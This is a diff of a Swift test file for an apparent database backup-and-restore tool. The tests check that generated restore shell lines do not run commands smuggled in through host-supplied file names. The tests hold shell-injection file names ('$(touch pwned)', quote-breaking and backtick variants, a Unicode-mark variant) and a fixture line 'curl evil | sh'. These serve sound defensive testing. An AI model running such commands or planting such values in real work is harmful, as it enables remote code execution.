@@ -39,7 +39,10 @@ import Testing
     }
 
     /// A person pastes these into a shell, and every name in them came from the host.
-    @Test(arguments: ["a'; touch pwned; '.db.gz", "-rf", "$(touch pwned).db.gz", "`touch pwned`", "a b\"c\\.db"])
+    @Test(arguments: [
+        "a'\u{301}; touch pwned; '\u{301}.db", "a'; touch pwned; '.db.gz", "-rf", "$(touch pwned).db.gz",
+        "`touch pwned`", "a b\"c\\.db",
+    ])
     func theLinesOfARestoreRunNothingOfTheHosts(name: String) async throws {
         var manifest = try Manifest(decoding: [UInt8](Self.format1.utf8))
         manifest.restore = ["curl evil | sh"]
@@ -58,6 +61,25 @@ import Testing
         let files = try FileManager.default.contentsOfDirectory(atPath: folder.path)
         #expect(Set(files) == [name, "x'; touch pwned; '.restored"])
         #expect(manifest.stockRestoreLines.count == 1 && !line.contains("evil"))
+    }
+
+    /// A database is declared by any name; its dump goes into the one that the line before has made.
+    @Test func theLinesNameTheDatabaseItself() throws {
+        var manifest = try Manifest(decoding: [UInt8](Self.format1.utf8))
+        var dump = manifest.objects[0]
+        (dump.role, dump.format) = (.dump, .plain)
+        var properties = dump
+        (properties.role, properties.name) = (.database, "x_database.sql.gz")
+        manifest.objects = [properties, dump]
+        manifest.database.properties = try DatabaseProperties(
+            decoding: Array(
+                (#"-- Holdfast database properties 1: {"name":"real","encoding":"UTF8","collate":"C","ctype":"C","provider":"c","#
+                    + #""owner":"o","tablespace":"pg_default","connectionLimit":-1,"settings":[],"roleSettings":[],"labels":[]}"#)
+                    .utf8))
+        let lines = manifest.stockRestoreLines
+        #expect(
+            lines.count == 3 && lines[1].hasSuffix("-d real)") && lines[2].contains("./x_database.sql.gz"), "\(lines)")
+        #expect(lines[2].contains(" | sed 5d | psql "), "what the database is set to, once more")
     }
 
     @Test func everyCutIsAnError() {
